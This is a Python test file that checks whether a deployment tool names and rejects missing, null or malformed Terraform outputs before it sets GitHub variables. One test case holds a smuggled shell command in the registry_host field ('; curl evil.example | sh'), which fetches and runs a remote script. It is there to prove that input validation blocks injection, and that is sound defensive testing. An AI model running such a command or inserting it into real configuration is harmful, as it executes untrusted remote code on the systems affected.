"""Outputs of Terraform that are wrong, missing or hostile make no variable."""

from __future__ import annotations

from typing import Any

import pytest

from tests.deploy.github.conftest import OUTPUTS, Setup
from tests.deploy.github.hub import Hub

THEN = "; apply the configuration first, then run `terraform -chdir=terraform/live output -json`\n"
CLIENT_IDS: dict[str, str] = OUTPUTS["github_client_ids"]  # type: ignore[assignment]


@pytest.mark.parametrize(
    ("outputs", "message"),
    [
        ({}, "output tenant_id: it is missing"),
        (
            {name: value for name, value in OUTPUTS.items() if name != "cluster_name"},
            "output cluster_name: it is missing",
        ),
        (OUTPUTS | {"subscription_id": None}, "output subscription_id: it is null"),
        (
            OUTPUTS | {"key_vault_name": ["kv-contoso"]},
            "output key_vault_name: Input should be a valid string",
        ),
        (
            OUTPUTS | {"github_client_ids": CLIENT_IDS | {"promoter": ""}},
            "output github_client_ids.promoter: String should match pattern "
            "'^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$'",
        ),
        (
            OUTPUTS | {"registry_host": "acr.azurecr.io; curl evil.example | sh"},
            "output registry_host: String should match pattern '^[A-Za-z0-9_.:/-]+$'",
        ),
    ],
)
def test_a_wrong_output_is_named(
    hub: Hub, set_up: Setup, outputs: dict[str, Any], message: str
) -> None:
    assert set_up(outputs=outputs) == (2, f"error: {message}{THEN}")
    assert hub.changes == []
